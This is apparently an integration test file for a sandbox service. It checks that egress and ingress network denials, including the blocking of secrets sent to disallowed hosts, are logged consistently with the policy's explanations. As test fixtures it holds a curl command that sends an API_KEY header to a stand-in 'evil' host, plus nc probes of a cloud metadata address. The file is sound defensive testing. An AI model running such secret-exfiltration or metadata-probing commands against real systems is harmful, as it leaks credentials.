import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { waitUntil } from '@svc/contract/testing';
import { Client, Events, Sandbox, type NetworkDecision } from '@svc/sdk';
import { freePort } from '../../packages/server/src/testing/free-port.ts';
import { CLASSES } from '../engine/sandbox-fixture.ts';
import { startWeb, svc as run, WITH_CURL, type Web } from './web-fixture.ts';

const [API, EVIL, DENIED] = ['api.public.example', 'evil.public.example', 'denied.public.example'];
const GUEST_PORT = 8000;

const undo = new AsyncDisposableStack();
let web: Web;
let client: Client;
before(async () => {
  web = await startWeb(undo);
  client = new Client({ apiUrl: web.server.url });
});
after(() => undo.disposeAsync());

const svc = (...parameters: readonly string[]) => run(web.server, '', ...parameters);

for (const isolation of CLASSES) {
  describe(`on class ${isolation}`, { concurrency: false }, () => {
    const name = `logged-${isolation}`;
    let sandbox: Sandbox;
    let hostPort = 0;
    before(async () => {
      hostPort = await freePort('tcp');
      const { privateAddress } = web.internet;
      const to53 = [{ start: 53, end: 53 }];
      sandbox = await Sandbox.create({
        client,
        name,
        image: WITH_CURL,
        isolation,
        secrets: { API_KEY: { value: 'sk-live-4711-real', hosts: [API] } },
        network: {
          ports: [{ guest_port: GUEST_PORT, host_port: hostPort }],
          tls: { upstream_ca_cert: [web.certificate] },
          policy: {
            rules: [
              { direction: 'egress', action: 'deny', destination: { domain: DENIED } },
              { direction: 'egress', action: 'deny', destination: { cidr: `${privateAddress}/32` } },
              { direction: 'egress', action: 'allow', destination: { group: 'host' }, ports: to53 },
              {
                direction: 'egress',
                action: 'allow',
                destination: { group: 'public' },
                ports: [{ start: 443, end: 443 }],
              },
              { direction: 'ingress', action: 'deny', destination: { group: 'loopback' } },
            ],
          },
        },
      });
    });
    after(() => sandbox.remove());

    async function logged(isMeant: (decision: NetworkDecision) => boolean): Promise<NetworkDecision> {
      let found: NetworkDecision | undefined;
      await waitUntil(async () => {
        for await (const decision of sandbox.network.log({ verdict: 'deny' }))
          if (isMeant(decision)) found = decision;
        return found !== undefined;
      });
      assert.ok(found);
      return found;
    }

    /** Explained first, then done: the log must say the same. */
    async function assertSame(
      question: Parameters<typeof sandbox.network.explain>[0],
      act: () => Promise<unknown>,
      isMeant: (decision: NetworkDecision) => boolean,
    ): Promise<NetworkDecision> {
      const before = await sandbox.network.explain(question);
      assert.equal(before.action, 'deny');
      await act();
      const entry = await logged(isMeant);
      assert.deepEqual([entry.decided_by, entry.rule], [before.decided_by, before.rule?.index ?? null]);
      const why = (reason: string) => reason.replace(/^.* is denied/, '');
      assert.equal(why(entry.reason), why(before.reason));
      // DNS queries have no port.
      if (entry.kind !== 'dns') assert.equal(entry.reason, before.reason);
      return entry;
    }
    const sh = (script: string) => sandbox.shell(script);
    const knock = (host: string, port: number) => sh(`timeout 2 nc ${host} ${port} < /dev/null`);
    const place = (host: string, port: number) => (entry: NetworkDecision) =>
      entry.address === host && entry.port === port;

    test('the log says of a flow what an explanation said of it: ranges, ports, the metadata address', async () => {
      const { privateAddress, publicAddress, metadataAddress } = web.internet;
      for (const [host, port, by] of [
        [privateAddress, 8080, 'rule'],
        [publicAddress, 9999, 'default'],
        [metadataAddress, 80, 'default'],
        [publicAddress, 853, 'closed_port'],
      ] as const) {
        const entry = await assertSame({ host, port }, () => knock(host, port), place(host, port));
        assert.deepEqual([entry.kind, entry.decided_by], ['tcp', by]);
      }
      const quic = { host: publicAddress, port: 443, protocol: 'udp' } as const;
      const send = `curl -sS -m 2 tftp://${publicAddress}:443/x`;
      await assertSame(
        quic,
        () => sh(send),
        (entry) => entry.kind === 'udp' && entry.port === 443,
      );
    });

    test('of a name that may not be looked up, and of incoming connections', async () => {
      const ask = () => sh(`nslookup ${DENIED}`);
      const entry = await assertSame({ host: DENIED, port: 443 }, ask, ({ host }) => host === DENIED);
      assert.deepEqual([entry.kind, entry.decided_by, entry.rule], ['dns', 'name', 0]);
      const come = async () => {
        const socket = connect(hostPort, '127.0.0.1').on('error', () => undefined);
        await new Promise((closed) => socket.once('close', closed));
      };
      const visit = { host: '127.0.0.1', port: GUEST_PORT, direction: 'ingress' } as const;
      const incoming = await assertSame(visit, come, ({ kind }) => kind === 'ingress');
      assert.deepEqual([incoming.address, incoming.port, incoming.rule], ['127.0.0.1', GUEST_PORT, 4]);
    });

    test('of a secret towards a host that may not have it', async () => {
      const { secrets, action } = await sandbox.network.explain({ host: EVIL, port: 443 });
      assert.equal(action, 'allow', 'the host may be reached');
      assert.deepEqual(secrets, [{ env_var: 'API_KEY', action: 'block_and_log' }]);
      const towards = await sandbox.network.explain({ host: API, port: 443 });
      assert.deepEqual(towards.secrets, [{ env_var: 'API_KEY', action: 'substitute' }]);
      await sh(`curl -sS -m 20 -H "X: $API_KEY" 'https://${EVIL}/path?query'`);
      const { secret, host, reason } = await logged(({ kind }) => kind === 'http');
      assert.deepEqual(
        [host, secret],
        [EVIL, { action: secrets[0]?.action, method: 'GET', path: '/path', env_vars: ['API_KEY'] }],
      );
      assert.match(reason, /placeholder of a secret that this host may not have$/);
    });

    test('svc net log shows it, also as it happens until the sandbox stops, and the audit log has it', async () => {
      const { publicAddress } = web.internet;
      const shown = await svc('net', 'log', name);
      assert.match(
        shown.output,
        new RegExp(` deny +dns +${DENIED} is denied: the name may not be asked for, by rule 0`),
      );
      assert.match(shown.output, new RegExp(` allow +(dns|tls) +${EVIL.replaceAll('.', '\\.')}`));
      const denied = await svc('net', 'log', '--denied', name, '-o', 'json');
      const lines = denied.output.split('\n').map((line) => JSON.parse(line) as NetworkDecision);
      assert.ok(lines.length > 5 && lines.every(({ verdict }) => verdict === 'deny'), denied.output);
      const following = svc('net', 'log', '-f', '--denied', name);
      await knock(publicAddress, 7777);
      await logged(place(publicAddress, 7777));
      await waitUntil(async () => {
        for await (const { payload } of Events.list({ client, type: 'policy_denied' })) {
          const { name: of, reason } = payload as { readonly name: string; readonly reason: string };
          if (of === name && reason.includes(`${publicAddress}:`)) return true;
        }
        return false;
      });
      await sandbox.stop();
      const followed = await following;
      assert.equal(followed.code, 0, followed.complaint);
      assert.match(followed.output, /:7777\/tcp is denied by default_egress: no rule fits/);
    });
  });
}
